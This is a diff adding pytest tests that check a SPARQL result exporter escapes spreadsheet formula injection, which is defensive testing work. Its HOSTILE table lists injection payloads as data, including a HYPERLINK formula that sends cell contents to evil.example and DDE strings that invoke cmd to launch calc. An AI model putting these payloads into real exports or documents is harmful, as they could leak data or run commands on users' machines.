@@ -1,4 +1,4 @@
-"""The result formats of SPARQL 1.1, byte for byte."""
+"""The result formats of SPARQL 1.1, byte for byte, and the one for spreadsheets."""
 
 # ruff: noqa: E501 - a format byte for byte is read best in its own lines
 
@@ -7,6 +7,7 @@ from __future__ import annotations
 import csv
 import io
 import json
+import time
 from xml.etree import ElementTree as ET
 
 import pytest
@@ -175,3 +176,111 @@ def test_a_verdict_is_one_word(value: bool, word: str) -> None:
 def test_a_table_is_written_as_often_as_one_likes() -> None:
     assert _write("csv", TERMS) == _write("csv", TERMS)
     assert TERMS.rows == TERMS.rows
+
+
+# ---------------------------------------------------------------- for spreadsheets
+
+# What somebody may have written into the data, and what a spreadsheet is given.
+HOSTILE = {
+    "a formula": ("=1+1", "'=1+1"),
+    "a link": ('=HYPERLINK("https://evil.example?"&A1,"x")', '\'=HYPERLINK("https://evil.example?"&A1,"x")'),
+    "DDE": ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
+    "a plus": ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
+    "a telephone number": ("+46 8 524 800 00", "'+46 8 524 800 00"),
+    "a minus": ("-1+cmd|' /C calc'!A0", "'-1+cmd|' /C calc'!A0"),
+    "a number and more": ("-5\n=1", "'-5\n'=1"),
+    "a number of another script": ("-\u0665", "'-\u0665"),
+    "an at": ("@SUM(1+1)", "'@SUM(1+1)"),
+    "full width": ("\uff1d1", "'\uff1d1"),
+    "plus of full width": ("\uff0b1", "'\uff0b1"),
+    "minus of full width": ("\uff0d1", "'\uff0d1"),
+    "at of full width": ("\uff20x", "'\uff20x"),
+    "spaces first": ("  =1", "'  =1"),
+    "other spaces first": ("\u00a0\u3000=1", "'\u00a0\u3000=1"),
+    "a space before a number": (" -5", "' -5"),
+    "a tab first": ("\tx", "'\tx"),
+    "a line feed first": ("\nx", "'\nx"),
+    "a carriage return first": ("\rx", "'\rx"),
+    "a line first": ("\n=1", "'\n'=1"),
+    "a later line": ("x\r\n =1", "x\r\n' =1"),
+    "a semicolon": ("x;=1;", "x;'=1;"),
+    "a tab": ("x\t@y", "x\t'@y"),
+    "quotes": ('";=1', "\";'=1"),
+}
+HARMLESS = [
+    "",
+    "-5",
+    "5",
+    "-0.5",
+    "1.50",
+    "a=b",
+    "a - b",
+    "x, =1",
+    "a@b.se",
+    "x\r\n\r\ny; z",
+    "'=1",
+    "Å",
+    "_:b",
+    '"',
+    " x ",
+]
+MARK = "\ufeff"
+
+
+def _texts(*texts: str) -> Table:
+    rows = [{"x": {"type": "literal", "value": text}} for text in texts]
+    return Table(json.dumps({"head": {"vars": ["x"]}, "results": {"bindings": rows}}).encode())
+
+
+def _read(written: str) -> list[list[str]]:
+    """CSV as a program reads it, without the byte order mark."""
+    assert written.startswith(MARK)
+    return list(csv.reader(io.StringIO(written.removeprefix(MARK), newline=""), strict=True))
+
+
+@pytest.mark.parametrize(("text", "safe"), HOSTILE.values(), ids=HOSTILE)
+def test_a_spreadsheet_is_given_no_formula(text: str, safe: str) -> None:
+    assert _read(_write("spreadsheet", _texts(text, "y"))) == [["x"], [safe], ["y"]]
+    assert _read(MARK + _write("csv", _texts(text))) == [["x"], [text]]
+
+
+@pytest.mark.parametrize("sign", [";", "\t", ","])
+@pytest.mark.parametrize("text", [text for text, _ in HOSTILE.values()])
+def test_no_cell_is_a_formula_whatever_a_program_splits_at(text: str, sign: str) -> None:
+    signs = ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20")
+    written = _write("spreadsheet", _texts(f"x{text}", text)).removeprefix(MARK)
+    quoted = csv.reader(io.StringIO(written, newline=""), delimiter=sign)
+    pieces = written.replace("\r", "\n").replace(sign, "\n").split("\n")  # of a program that minds no quotes
+    for cell in [*(cell for row in quoted for cell in row), *pieces]:
+        assert not cell.lstrip().startswith(signs)
+
+
+@pytest.mark.parametrize("text", HARMLESS)
+def test_a_spreadsheet_is_given_what_is_harmless_as_it_is(text: str) -> None:
+    (_, found) = _read(_write("spreadsheet", _texts(text)))
+    assert found == ([text] if text else [])
+
+
+def test_the_header_of_a_spreadsheet_is_no_formula_either() -> None:
+    table = _table("SELECT ?\uff1dx { BIND (1 AS ?\uff1dx) }")  # SPARQL takes it in the name of a variable
+    assert _write("spreadsheet", table) == f"{MARK}'\uff1dx\r\n1\r\n"
+
+
+def test_numbers_stay_numbers_in_a_spreadsheet() -> None:
+    table = _table("SELECT ?a ?b ?c ?d { VALUES (?a ?b ?c ?d) { (-5 -0.5 7 -1.0e0) } }")
+    assert _write("spreadsheet", table) == f"{MARK}a,b,c,d\r\n-5,-0.5,7,-1\r\n"
+
+
+def test_a_spreadsheet_says_the_same_as_csv_where_nothing_is_dangerous() -> None:
+    assert _write("spreadsheet", TERMS) == MARK + _write("csv", TERMS).replace("a\tb", '"a\tb"')
+    for sparql in ("SELECT ?a ?b { FILTER (false) }", "SELECT * {}", "SELECT ?x { BIND (BNODE() AS ?x) }"):
+        table = _table(sparql)
+        assert _write("spreadsheet", table) == MARK + _write("csv", table)
+    assert [_write("spreadsheet", Verdict(value)) for value in (True, False)] == [f"{MARK}true", f"{MARK}false"]
+
+
+def test_a_long_cell_of_blanks_takes_no_long_time() -> None:
+    began = time.perf_counter()
+    for blank in (" ", "\n", ";", "\t ", "; "):
+        assert len(_write("spreadsheet", _texts(blank * 100_000))) >= 100_000
+    assert time.perf_counter() - began < 2
